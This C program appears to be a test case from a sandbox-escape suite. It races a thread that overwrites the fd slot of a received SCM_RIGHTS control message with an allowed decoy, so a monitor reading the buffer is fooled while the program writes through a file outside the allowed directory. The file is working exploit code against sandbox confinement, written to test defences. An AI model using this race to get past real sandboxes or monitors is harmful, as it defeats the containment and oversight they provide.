/* a7_cmsg_fd_rewrite: forge the fd a received SCM_RIGHTS message names. The program opens an
 * allowed file (fd M) and knows the fd number the kernel will install (the lowest free one, N).
 * While it recvmsg()s a writable fd of a file outside the allowed dir from a daemon, a second
 * thread keeps writing M into the control buffer's fd slot: whoever reads the buffer after the
 * kernel filled it sees M (the allowed file). The program writes through N. 400 rounds (a race: the window is the kernel's return path). */
#include "r7.h"
#include <sys/socket.h>
static char cbuf[CMSG_SPACE(sizeof(int))] __attribute__((aligned(8)));
static volatile int decoy = -1, stop;
static void *spin(void *a)
{
    (void)a;
    while (!stop) {
        volatile int *slot = (volatile int *)CMSG_DATA((struct cmsghdr *)cbuf);
        *slot = decoy;
    }
    return NULL;
}
int main(int argc, char **argv)
{
    if (is_prepare(argc, argv)) {
        start_fd_daemon("rtm7_fdd_forge", "rtm7_forge_target", 400);
        return 0;
    }
    if (is_cleanup(argc, argv)) {
        stop_daemon("rtm7_fdd_forge");
        return 0;
    }
    mkdir_p(ALLOWED);
    int m = open(ALLOWED "/rtm7_decoy.txt", O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (m < 0)
        DIE("open decoy");
    decoy = m;
    int s = abstract_connect("rtm7_fdd_forge");
    pthread_t t;
    pthread_create(&t, NULL, spin, NULL);
    int wrote = 0, seen_decoy = 0;
    for (int i = 0; i < 400; i++) {
        int n = dup(0); /* the lowest free fd: the one the kernel will install */
        close(n);
        char b;
        struct iovec iov = {.iov_base = &b, .iov_len = 1};
        struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = cbuf, .msg_controllen = sizeof cbuf};
        if (recvmsg(s, &msg, 0) <= 0)
            break;
        int got = *(volatile int *)CMSG_DATA((struct cmsghdr *)cbuf);
        if (got == m)
            seen_decoy++;
        char line[64];
        int k = snprintf(line, sizeof line, "rtm7 forged round %d\n", i);
        if (write(n, line, k) == k)
            wrote++;
        close(n);
    }
    stop = 1;
    pthread_join(t, NULL);
    did("400 SCM_RIGHTS fds received with the cmsg fd slot overwritten by fd %d (decoy in the allowed dir); buffer read back as the decoy %d times; wrote %d lines through the real fds", m, seen_decoy, wrote);
    return 0;
}
